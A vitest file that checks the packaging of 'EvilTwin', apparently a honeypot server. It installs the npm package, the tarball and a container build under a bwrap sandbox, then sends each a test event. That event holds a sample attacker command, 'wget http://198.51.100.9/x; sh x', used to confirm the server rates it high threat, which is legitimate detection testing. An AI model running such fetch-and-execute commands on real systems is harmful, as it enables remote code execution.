import { type ChildProcess, execFile } from 'node:child_process'
import { once } from 'node:events'
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { promisify } from 'node:util'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { finalStage } from './dockerfile.js'
import { createInstallation, type Installation, PASSWORD, reader, SENSOR_KEY } from './server-process.js'

const ROOT = fileURLToPath(new URL('..', import.meta.url))
const BWRAP = '/usr/bin/bwrap'
const USER = 10_001
const run = promisify(execFile)

let directory: string
beforeAll(() => {
  directory = mkdtempSync(join(tmpdir(), 'eviltwin-packages-'))
})
afterAll(() => rmSync(directory, { recursive: true, force: true }))

const npm = (...args: string[]) =>
  run('npm', [...args, '--no-audit', '--no-fund', '--prefer-offline', '--loglevel=error'], { cwd: directory })

/** A first minute: the page, its documents, an event in, its session out, and a stop that ends well. */
async function expectWorks(installation: Installation, version: string): Promise<void> {
  const server = await installation.start()
  try {
    const page = await fetch(`${installation.url}/dashboard/`)
    expect([page.status, await page.text()]).toEqual([200, expect.stringContaining('<div id="root">')])
    const sent = await fetch(`${installation.url}/log`, {
      method: 'POST',
      headers: { authorization: `Bearer ${SENSOR_KEY}`, 'content-type': 'application/json' },
      body: JSON.stringify({
        source_ip: '203.0.113.7',
        session: 'packaged',
        occurred_at: new Date().toISOString(),
        command: 'wget http://198.51.100.9/x; sh x',
      }),
    })
    expect(await sent.json()).toMatchObject({ status: 'processed', threat_level: 'high' })
    const get = await reader(installation.url)
    expect((await get<{ items: object[] }>('/sessions')).items).toHaveLength(1)
    expect(await get('/health')).toMatchObject({ version })
    expect((await get<{ items: object[] }>('/ops/alerts')).items).toBeInstanceOf(Array)
    const runbook = await fetch(`${installation.url}/runbooks/clock-skew`)
    expect([runbook.status, await runbook.text()]).toEqual([200, expect.stringContaining('#')])
  } finally {
    const ended = once(server.process, 'exit')
    process.kill(pidOf(server.process), 'SIGTERM')
    await ended
  }
  expect(server.process.exitCode).toBe(0)
}

/** bwrap stays as the parent of what it runs, and passes no signal on. */
function pidOf({ pid, spawnfile }: ChildProcess): number {
  if (spawnfile !== BWRAP) return pid as number
  return Number(readFileSync(`/proc/${pid}/task/${pid}/children`, 'utf8').trim())
}

test('the npm package installs into an empty folder, starts, takes an event and stops', async () => {
  const packed = await run(process.execPath, [join(ROOT, 'scripts', 'package.mjs'), '--out', directory])
  const { version } = JSON.parse(readFileSync(join(ROOT, 'server', 'package.json'), 'utf8'))
  expect(packed.stdout.trim()).toBe(join(directory, `eviltwin-${version}.tgz`))
  const app = join(directory, 'app')
  mkdirSync(app)
  await npm('install', '--prefix', app, packed.stdout.trim())
  const program = join(app, 'node_modules', '.bin', 'eviltwin')
  const installation = await createInstallation(
    { ADMIN_PASSWORD: PASSWORD, BOOTSTRAP_SENSOR_KEY: SENSOR_KEY },
    [program],
  )
  try {
    expect((await installation.run('--version')).stdout.trim()).toBe(version)
    await expectWorks(installation, version)
  } finally {
    installation.remove()
  }
})

test('the tarball installs with its installer, twice, and what it installs works', async () => {
  const { stdout } = await run(process.execPath, [
    join(ROOT, 'scripts', 'package.mjs'),
    '--tarball',
    '--out',
    directory,
  ])
  const unpacked = join(directory, 'unpacked')
  mkdirSync(unpacked)
  await run('tar', ['--extract', '--file', stdout.trim(), '--directory', unpacked, '--strip-components=1'])
  const prefix = join(directory, 'opt')
  const install = () => run(join(unpacked, 'install.sh'), ['--prefix', prefix, '--no-service'])
  await install()
  writeFileSync(join(prefix, 'of an older version'), '')
  const { version } = JSON.parse(readFileSync(join(ROOT, 'server', 'package.json'), 'utf8'))
  expect((await install()).stdout).toContain(`EvilTwin ${version} is in ${prefix}`)
  expect(existsSync(join(prefix, 'of an older version'))).toBe(false)
  const installation = await createInstallation(
    { ADMIN_PASSWORD: PASSWORD, BOOTSTRAP_SENSOR_KEY: SENSOR_KEY },
    [process.execPath, join(prefix, 'server', 'bin', 'eviltwin.mjs')],
  )
  try {
    await expectWorks(installation, version)
  } finally {
    installation.remove()
  }
})

test.runIf(existsSync(BWRAP))(
  'what the container file puts together runs on a read-only root without privileges',
  async () => {
    const stage = finalStage(readFileSync(join(ROOT, 'Dockerfile'), 'utf8'))
    const rootfs = join(directory, 'rootfs')
    const dependencies = join(directory, 'dependencies')
    for (const path of ['package.json', 'package-lock.json', '.npmrc', ...stage.manifests])
      copy(join(ROOT, path), join(dependencies, path))
    await npm('ci', '--prefix', dependencies, ...stage.installArguments)
    for (const { from, source, target } of stage.copies)
      copy(from === 'dependencies' ? dependencies : join(ROOT, source), join(rootfs, target))
    const data = mkdtempSync(join(directory, 'data-'))
    const installation = await createInstallation(
      { NODE_ENV: stage.environment['NODE_ENV'], ADMIN_PASSWORD: PASSWORD, BOOTSTRAP_SENSOR_KEY: SENSOR_KEY },
      sandboxed(rootfs, data, stage.entrypoint),
    )
    try {
      const { version } = JSON.parse(readFileSync(join(ROOT, 'server', 'package.json'), 'utf8'))
      await expectWorks(installation, version)
    } finally {
      installation.remove()
    }
  },
)

function copy(source: string, target: string): void {
  mkdirSync(dirname(target), { recursive: true })
  cpSync(source, target, { recursive: true, verbatimSymlinks: true })
}

/** As a container is run with --read-only and without capabilities: the image's files, /data, and a /tmp of its own. */
function sandboxed(rootfs: string, data: string, entrypoint: readonly string[]): [string, ...string[]] {
  const system = ['/etc', '/usr'].flatMap((path) => ['--ro-bind', path, path])
  // PostgreSQL asks for the name of its user, which the image adds.
  const users = join(rootfs, 'passwd')
  writeFileSync(users, `eviltwin:x:${USER}:${USER}::/data:/usr/sbin/nologin\n`)
  const links = ['bin', 'lib', 'lib64', 'sbin'].flatMap((name) => ['--symlink', `usr/${name}`, `/${name}`])
  return [
    BWRAP,
    ...system,
    ...links,
    ...['--ro-bind', users, '/etc/passwd'],
    ...['--ro-bind', process.execPath, '/opt/node', '--ro-bind', join(rootfs, 'app'), '/app'],
    ...['--bind', data, '/data', '--tmpfs', '/tmp', '--proc', '/proc', '--dev', '/dev', '--remount-ro', '/'],
    ...['--unshare-user', '--uid', String(USER), '--gid', String(USER), '--chdir', '/data'],
    ...['--setenv', 'DATA_DIR', '/data', '--setenv', 'XDG_STATE_HOME', '/data/state'],
    ...entrypoint.map((word) => (word === 'node' ? '/opt/node' : word)),
  ]
}
